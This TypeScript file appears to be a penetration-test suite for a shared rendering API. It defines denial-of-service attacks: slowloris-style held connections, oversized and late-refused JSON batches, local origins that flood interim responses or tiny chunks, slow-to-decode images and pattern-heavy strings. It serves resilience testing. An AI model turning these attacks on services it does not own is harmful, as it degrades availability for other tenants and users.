/** What one tenant may do to a service that others use, as a penetration tester would. */
import { once } from 'node:events';
import { createServer, type ServerResponse } from 'node:http';
import { connect, createServer as createTcpServer, type AddressInfo, type Server } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import sharp, { type Sharp } from 'sharp';
import { generatePath, repeat, send, type Attack, type Target } from './attack.ts';
import { studioAttacks } from './studio-attacks.ts';

const mebibyte = 1024 * 1024;
const maxBodyBytes = 10 * mebibyte;

export const attacks: readonly Attack[] = [
  { name: 'renders at the rate of its plan', run: renderAtRate },
  {
    name: 'bodies of 10 MiB with escapes and empty rows',
    run: (target) => submitBodies(target, fill(String.raw`{"x":"\u0041","rows":[{}`, ',{}', ']}')),
  },
  {
    name: 'bodies of 10 MiB with one row of 780,000 names',
    run: (target) => submitBodies(target, namesBody()),
  },
  {
    name: 'bodies of 10 MiB of arrays',
    run: (target) => submitBodies(target, fill('{"rows":[[]', ',[]', ']}')),
  },
  {
    name: 'batches of a row with 400,000 entries',
    run: (target) => submitBodies(target, `{"rows":[{"rows":[${'{},'.repeat(400_000)}{}]}]}`),
  },
  { name: 'batches whose rows have nested lists', run: submitNestedLists },
  { name: 'batches of 400 rows that are refused at their end', run: submitRefusedRows },
  { name: '1,000 bodies that stop before their last byte', run: holdBodies },
  { name: 'texts that take long', run: renderTexts },
  {
    name: 'AVIF pictures that take long',
    drawPicture: () => drawNoise(3_600).avif({ quality: 80, effort: 0 }).toBuffer(),
    run: renderAvif,
  },
  { name: 'batches with pictures of a slow origin', run: submitSlowPictures },
  {
    name: 'pictures behind endless interim answers',
    run: (target) => renderFloods(target, 'HTTP/1.1 102 Processing\r\n\r\n'.repeat(2_000), ''),
  },
  {
    name: 'pictures in tiny chunks with extensions',
    run: (target) => renderFloods(target, '1;a=b\r\nx\r\n'.repeat(5_000), chunkedHead),
  },
  {
    name: '20 large responses to clients that do not read',
    drawPicture: () => drawNoise(2_500).jpeg({ quality: 90 }).toBuffer(),
    run: ignoreAnswers,
  },
  { name: 'late pages of 100,000 jobs', run: readLatePages },
  { name: '1,000 connections that send half a head', run: holdHeads },
  {
    name: 'repeats in each other',
    run: (target) => renderRows(target, target.templates.nested, [300, 1_000]),
  },
  { name: 'tables of 5,000 rows', run: (target) => renderRows(target, target.templates.table, [5_000]) },
  {
    name: 'repeats of hidden elements',
    run: (target) => renderRows(target, target.templates.hidden, [5_000]),
  },
  {
    name: 'codes that are large by their options',
    run: (target) => renderValues(target, target.templates.codes, (salt) => salt),
  },
  {
    name: 'texts that stand for patterns',
    run: (target) => renderValues(target, target.templates.pattern, (salt) => '[:'.repeat(4_000) + salt),
  },
  ...studioAttacks,
];

const chunkedHead = 'HTTP/1.1 200 OK\r\nContent-Type: image/png\r\nTransfer-Encoding: chunked\r\n\r\n';

/** A body of just less than 10 MiB. */
function fill(start: string, repeated: string, end: string): string {
  const count = Math.floor((maxBodyBytes - start.length - end.length) / repeated.length);
  return start + repeated.repeat(count) + end;
}

function namesBody(): string {
  const names = Array.from({ length: 780_000 }, (_, index) => `"n${index}":""`).join(',');
  return `{"template":{"templateId":"00000000-0000-4000-8000-000000000000"},"rows":[{${names}}]}`;
}

async function renderAtRate(target: Target): Promise<void> {
  const path = generatePath(target.templates.text);
  await repeat(32, (sequence, round) => {
    const text = `${sequence} ${round} `.repeat(40);
    return send(target, sequence, path, JSON.stringify({ variables: { text } }));
  });
}

/** Renders lists of some lengths, also those that are refused. */
async function renderRows(target: Target, templateId: string, lengths: readonly number[]): Promise<void> {
  const path = generatePath(templateId);
  const bodies = lengths.map((length) => {
    const rows = Array.from({ length }, (_, at) => ({ a: String(at % 10) }));
    return JSON.stringify({ variables: { rows: JSON.stringify(rows) } });
  });
  await repeat(8, (sequence, round) => send(target, sequence, path, bodies[round % bodies.length]));
}

/** Renders values that differ, so that nothing of an earlier one can be used. */
async function renderValues(
  target: Target,
  templateId: string,
  fill: (salt: string) => string,
): Promise<void> {
  const path = generatePath(templateId);
  await repeat(8, (sequence, round) => {
    const variables = { text: fill(`${sequence}-${round}`) };
    return send(target, sequence, path, JSON.stringify({ variables }));
  });
}

/** Rows that are refused at their end, after all others were checked. */
async function submitNestedLists(target: Target): Promise<void> {
  const inner = Array.from({ length: 99 }, (_, at) => ({ b: String(at) }));
  const row = { lists: Array.from({ length: 50 }, () => ({ inner })) };
  const rows = [...Array.from({ length: 80 }, () => row), { lists: 'no list' }];
  const body = JSON.stringify({ template: { templateId: target.templates.lists }, rows });
  await submitBodies(target, body);
}

/** Each row takes a millisecond, and only the last one is refused: many submissions are checked at once. */
async function submitRefusedRows(target: Target): Promise<void> {
  const { quick: templateId } = target.templates;
  const rows = [...Array.from({ length: 399 }, (_, at) => ({ text: String(at) })), { unknown: '' }];
  const body = JSON.stringify({ template: { templateId }, rows });
  await repeat(100, (sequence, round) =>
    send(target, sequence, '/api/v1/batch-jobs', body, { 'idempotency-key': `${sequence}-${round}` }),
  );
}

async function submitBodies(target: Target, body: string): Promise<void> {
  await repeat(2, (sequence) => send(target, sequence, '/api/v1/batch-jobs', body));
}

async function renderTexts(target: Target): Promise<void> {
  const body = JSON.stringify({ variables: { text: '\u2067a\u2069'.repeat(66_000) } });
  const path = generatePath(target.templates.text);
  await repeat(20, (sequence) => send(target, sequence, path, body));
}

/** Renders pictures of a server, 20 at a time, each at another URL. */
async function renderPictures(target: Target, origin: string): Promise<void> {
  const path = generatePath(target.templates.photo);
  await repeat(20, (sequence, round) => {
    const variables = { photo: `${origin}/${sequence}-${round}` };
    return send(target, sequence, path, JSON.stringify({ variables }));
  });
}

/** Noise: it takes decoders long, and its PNG is as large as its pixels. */
function drawNoise(sizePx: number): Sharp {
  return sharp({
    create: {
      width: sizePx,
      height: sizePx,
      channels: 3,
      background: 'black',
      noise: { type: 'gaussian', mean: 128, sigma: 60 },
    },
  });
}

async function renderAvif(target: Target, avif: Uint8Array): Promise<void> {
  const origin = await servePictures((response) =>
    response.writeHead(200, { 'content-type': 'image/avif' }).end(avif),
  );
  await renderPictures(target, origin);
}

async function submitSlowPictures(target: Target): Promise<void> {
  const origin = await servePictures((response) => setTimeout(() => response.writeHead(500).end(), 9_000));
  const { templates, keys } = target;
  const submit = (sequence: number, round: number) => {
    const rows = Array.from({ length: 400 }, (_, row) => ({
      photo: `${origin}/${sequence}-${round}-${row}`,
    }));
    const body = JSON.stringify({ template: { templateId: templates.photo }, rows });
    return send(target, sequence, '/api/v1/batch-jobs', body);
  };
  await Promise.all([renderPictures(target, origin), repeat(keys.length, submit)]);
}

/** Starts a server of pictures. Returns its origin. */
async function servePictures(respond: (response: ServerResponse) => void): Promise<string> {
  return await listen(createServer((_request, response) => respond(response)));
}

async function listen(server: Server): Promise<string> {
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

/** Renders with pictures of a server that repeats some bytes after its head, as fast as they are taken. */
async function renderFloods(target: Target, flood: string, head: string): Promise<void> {
  const bytes = Buffer.from(flood);
  const origin = await listen(
    createTcpServer((socket) => {
      const write = (): void => {
        while (!socket.destroyed && socket.write(bytes));
      };
      socket.on('error', () => undefined).on('drain', write);
      socket.once('data', () => {
        socket.write(head);
        write();
      });
    }),
  );
  await renderPictures(target, origin);
}

/** Holds connections that send `parts` and read nothing; opens each again when it is closed. */
async function hold(
  target: Target,
  count: number,
  parts: (account: number) => Iterable<Buffer>,
): Promise<void> {
  const { hostname, port } = new URL(target.url);
  await repeat(count, async (sequence) => {
    const socket = connect(Number(port), hostname).on('error', () => undefined);
    const closed = new Promise((resolve) => socket.once('close', resolve));
    for (const part of parts(sequence)) {
      if (socket.destroyed) break;
      if (socket.write(part)) continue;
      await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), closed]);
    }
    await closed;
    await sleep(1_000);
  });
}

async function holdBodies(target: Target): Promise<void> {
  const chunk = Buffer.alloc(64 * 1024, ' ');
  await hold(target, 1_000, function* (account) {
    yield head(target, account, 'POST /api/v1/batch-jobs', `Content-Length: ${maxBodyBytes}\r\n\r\n`);
    for (let sent = chunk.length; sent < maxBodyBytes; sent += chunk.length) yield chunk;
    yield chunk.subarray(1);
  });
}

async function holdHeads(target: Target): Promise<void> {
  await hold(target, 1_000, (account) => [head(target, account, 'GET /api/v1/projects', '')]);
}

function head({ url, keys }: Target, account: number, start: string, rest: string): Buffer {
  const key = keys[account % keys.length];
  const lines = [`${start} HTTP/1.1`, `Host: ${new URL(url).host}`, `X-Api-Key: ${key}`];
  return Buffer.from(`${[...lines, 'Content-Type: application/json'].join('\r\n')}\r\n${rest}`);
}

async function ignoreAnswers(target: Target, jpeg: Uint8Array): Promise<void> {
  const origin = await servePictures((response) =>
    response.writeHead(200, { 'content-type': 'image/jpeg' }).end(jpeg),
  );
  const body = JSON.stringify({ variables: { photo: `${origin}/noise` } });
  const start = `POST ${generatePath(target.templates.poster)}`;
  const rest = `Content-Length: ${body.length}\r\n\r\n${body}`;
  await hold(target, 20, (account) => [head(target, account, start, rest)]);
}

async function readLatePages(target: Target): Promise<void> {
  await repeat(16, (sequence, round) => {
    const page = 900 + ((sequence * 131 + round * 17) % 100);
    return send(target, 0, `/api/v1/batch-jobs?page=${page}&size=100`);
  });
}
